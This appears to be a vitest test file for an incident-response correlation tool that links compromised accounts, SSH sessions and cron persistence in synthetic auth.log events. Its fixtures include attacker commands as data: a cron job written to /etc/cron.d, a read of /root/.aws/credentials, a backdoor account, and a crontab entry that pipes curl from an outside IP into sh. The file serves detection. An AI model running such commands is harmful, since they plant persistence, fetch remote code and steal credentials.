/** Account, SSH session and cron links on events written for them. */
import { afterEach, describe, expect, it } from 'vitest';
import { cronRunsLink } from '../../../src/correlate/links/cron.js';
import { ROUND_LINKS } from '../../../src/correlate/links/index.js';
import { localUserLink } from '../../../src/correlate/links/local-user.js';
import { sshSessionLink } from '../../../src/correlate/links/ssh-session.js';
import { entityKeys, linkContext } from '../../helpers/link-case.js';
import { MiniCase, type MiniEvent, us } from '../../helpers/mini-case.js';

let mini: MiniCase;
afterEach(() => mini?.close());

const login = (ts: string, host: string, user: string, ip: string, session: string, label?: string): MiniEvent => ({ ts, class: 'authentication', action: 'ssh_login', outcome: 'success', host, actor: user, src_ip: ip, src_port: 50000, session, attrs: label ? { label } : null });
const sudo = (ts: string, host: string, user: string, command: string, label?: string): MiniEvent => ({ ts, class: 'process_activity', action: 'sudo', outcome: 'success', host, actor: user, target: 'root', command, attrs: label ? { label } : null });

describe('compromised account link', () => {
  it("takes its later logins from new external addresses, not from its owner's usual one nor from an internal host the attacker does not hold", async () => {
    mini = await MiniCase.create();
    await mini.file('auth_log', 'h1/auth.log', [
      login('2026-05-01T09:00:00Z', 'h1', 'dev', '192.0.2.10', 'sshd[1]', 'owner-before'),
      login('2026-05-02T03:00:00Z', 'h1', 'dev', '198.51.100.7', 'sshd[2]', 'attacker'),
      login('2026-05-02T09:00:00Z', 'h1', 'dev', '192.0.2.10', 'sshd[3]', 'owner-after'),
      login('2026-05-02T10:00:00Z', 'h1', 'dev', '10.0.9.9', 'sshd[4]', 'internal'),
      login('2026-05-03T03:00:00Z', 'h1', 'dev', '198.51.100.8', 'sshd[5]', 'attacker-2'),
    ]);
    const ctx = await linkContext(mini);
    const u = ctx.fp.add('local_user', 'dev', 'h1', 'compromised', 'test', { compromisedAtUs: us('2026-05-02T03:00:00Z') });
    await localUserLink.expand(ctx, u);
    const taken = ['owner-before', 'attacker', 'owner-after', 'internal', 'attacker-2'].filter((l) => ctx.fp.events.has(mini.id(l)));
    expect(taken).toEqual(['attacker', 'attacker-2']);
    expect(entityKeys(ctx.fp)).toContain('ip 198.51.100.8');
  });
});

describe('SSH session link', () => {
  async function sessionCase() {
    mini = await MiniCase.create();
    await mini.file('auth_log', 'jump/auth.log', [
      login('2026-05-02T03:00:00Z', 'jump', 'dev', '198.51.100.7', 'sshd[2]'),
      sudo('2026-05-02T02:59:00Z', 'jump', 'dev', '/bin/ls', 'before-session'),
      { ts: '2026-05-02T03:01:00Z', class: 'account_change', action: 'user_created', outcome: 'success', host: 'jump', target: 'early', attrs: { label: 'early-user' } },
      sudo('2026-05-02T03:02:00Z', 'jump', 'dev', "/bin/sh -c echo '*/5 * * * * root /tmp/x' > /etc/cron.d/x", 'cron-write'),
      { ts: '2026-05-02T03:03:00Z', class: 'account_change', action: 'user_created', outcome: 'success', host: 'jump', target: 'svc-upd', attrs: { label: 'backdoor' } },
      sudo('2026-05-02T03:04:00Z', 'jump', 'dev', '/bin/cat /root/.aws/credentials', 'creds'),
      { ts: '2026-05-02T03:30:00Z', class: 'authentication', action: 'ssh_session_closed', outcome: 'success', host: 'jump', actor: 'dev', session: 'sshd[2]' },
      sudo('2026-05-02T04:00:00Z', 'jump', 'dev', '/bin/ls', 'after-session'),
    ]);
    await mini.file('auth_log', 'app/auth.log', [login('2026-05-02T03:10:00Z', 'app', 'dev', '10.0.0.4', 'sshd[77]', 'lateral')]);
  }

  it("follows sudo while it lasted, account changes after the first sudo, credential reads, cron writes and lateral logins from an internal address (then this host's)", async () => {
    await sessionCase();
    const ctx = await linkContext(mini);
    const s = ctx.fp.add('session', 'sshd[2]', 'jump', null, 'test');
    await sshSessionLink.expand(ctx, s);
    const taken = ['before-session', 'early-user', 'cron-write', 'backdoor', 'creds', 'lateral', 'after-session'].filter((l) => ctx.fp.events.has(mini.id(l)));
    expect(taken).toEqual(['cron-write', 'backdoor', 'creds', 'lateral']);
    expect(entityKeys(ctx.fp)).toEqual(['host app', 'local_user dev@app', 'local_user svc-upd@jump', 'session sshd[2]@jump', 'session sshd[77]@app']);
    expect(ctx.fp.get('local_user', 'svc-upd', 'jump')!.createdByAttacker).toBe(true);
    expect(ctx.credentialReads.map((c) => c.file)).toEqual(['/root/.aws/credentials']);
    expect(ctx.fp.hosts.hostOf('10.0.0.4')).toBe('jump');
    expect(ctx.hostWindows.get('jump')).toEqual([[us('2026-05-02T03:00:00Z'), us('2026-05-02T03:30:00Z')]]);
    expect(ctx.fp.events.has(mini.id('cron-write'))).toBe(true);
  });

  it("cron link: a job the attacker wrote runs at its minute, until the file is removed", async () => {
    mini = await MiniCase.create();
    const run = (ts: string, label: string): MiniEvent => ({ ts, class: 'authentication', action: 'cron_session_opened', outcome: 'success', host: 'jump', actor: 'root', target: 'root', attrs: { label } });
    await mini.file('auth_log', 'jump/auth.log', [
      run('2026-05-02T03:17:00Z', 'before-write'),
      run('2026-05-02T04:17:00Z', 'run-1'),
      run('2026-05-02T04:18:00Z', 'other-minute'),
      run('2026-05-02T05:17:00Z', 'run-2'),
      sudo('2026-05-02T05:30:00Z', 'jump', 'admin', '/bin/rm /etc/cron.d/x'),
      run('2026-05-02T06:17:00Z', 'after-removal'),
    ]);
    const ctx = await linkContext(mini);
    ctx.cronWrites.push({ host: 'jump', path: '/etc/cron.d/x', minute: 17, hour: null, user: 'root', fromUs: us('2026-05-02T04:00:00Z'), eventId: 0 });
    await cronRunsLink.run(ctx);
    const taken = ['before-write', 'run-1', 'other-minute', 'run-2', 'after-removal'].filter((l) => ctx.fp.events.has(mini.id(l)));
    expect(taken).toEqual(['run-1', 'run-2']);
  });
});

describe('persistence link', () => {
  it("a crontab -u USER edit in the attacker's session is USER's table, and its written-out job's runs as USER follow", async () => {
    mini = await MiniCase.create();
    const run = (ts: string, user: string, label: string): MiniEvent => ({ ts, class: 'authentication', action: 'cron_session_opened', outcome: 'success', host: 'jump', actor: 'root', target: user, attrs: { label } });
    await mini.file('auth_log', 'jump/auth.log', [
      login('2026-05-02T03:00:00Z', 'jump', 'dev', '198.51.100.7', 'sshd[2]'),
      sudo('2026-05-02T03:02:00Z', 'jump', 'dev', "/bin/sh -c echo '17 * * * * curl -s http://198.51.100.7/x | sh' | crontab -u www-data -", 'crontab-u'),
      sudo('2026-05-02T03:03:00Z', 'jump', 'dev', '/usr/bin/crontab -e', 'crontab-e'),
      sudo('2026-05-02T03:04:00Z', 'jump', 'dev', '/usr/bin/crontab -u www-data -l', 'crontab-l'),
      { ts: '2026-05-02T03:30:00Z', class: 'authentication', action: 'ssh_session_closed', outcome: 'success', host: 'jump', actor: 'dev', session: 'sshd[2]' },
      run('2026-05-02T04:17:00Z', 'www-data', 'www-run'),
      run('2026-05-02T04:17:00Z', 'root', 'root-run'),
      run('2026-05-02T04:18:00Z', 'www-data', 'other-minute'),
    ]);
    const ctx = await linkContext(mini);
    await sshSessionLink.expand(ctx, ctx.fp.add('session', 'sshd[2]', 'jump', null, 'test'));
    for (const l of ROUND_LINKS.filter((x) => x.name === 'persistence' || x.name === 'cron_runs')) await l.run(ctx);
    expect(ctx.persistence.map((p) => `${p.kind} ${p.value}`)).toEqual(['cron crontab of www-data', 'cron crontab of root']);
    expect(['www-run', 'root-run', 'other-minute'].filter((l) => ctx.fp.events.has(mini.id(l)))).toEqual(['www-run']);
  });
});
